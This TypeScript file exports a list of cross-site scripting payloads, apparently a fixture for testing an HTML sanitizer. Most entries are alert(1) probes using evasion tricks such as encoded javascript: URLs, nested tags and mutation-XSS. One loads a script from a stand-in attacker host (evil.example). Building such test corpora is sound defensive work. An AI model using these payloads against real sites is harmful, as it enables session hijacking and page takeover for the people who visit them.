/** Common ways to bring a script into a page that shows what others wrote. */
export const scripts: readonly string[] = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0d>alert(1)</script>",
  "<img src=x onerror=alert(1)>", "<img src='x' onerror\n=\n'alert(1)'>", "<img src=\"javascript:alert(1)\">", "<img src=`javascript:alert(1)`>", "<img \"\"\"><script>alert(1)</script>\">",
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href=\"java\0script:alert(1)\">x</a>".replace("\0", ""),
  "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'></object>", "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<form action='javascript:alert(1)'><button>x</button></form>", "<button formaction='javascript:alert(1)'>x</button>", "<input autofocus onfocus=alert(1)>", "<select onchange=alert(1)><option>x</select>",
  "<body onload=alert(1)>", "<div style='background:url(javascript:alert(1))'>x</div>", "<style>@import 'javascript:alert(1)';</style>", "<link rel=stylesheet href='javascript:alert(1)'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href='javascript:alert(1)//'>", "<table background='javascript:alert(1)'><tr><td>x</table>", "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><script>alert(1)</script>]]>", "<p title='\"><img src=x onerror=alert(1)>'>x</p>", "<a title='x' onclick='alert(1)' href='https://a.example'>x</a>", "<p/onmouseover=alert(1)>x</p>", "<x onclick=alert(1) style=position:fixed>x</x>",
];
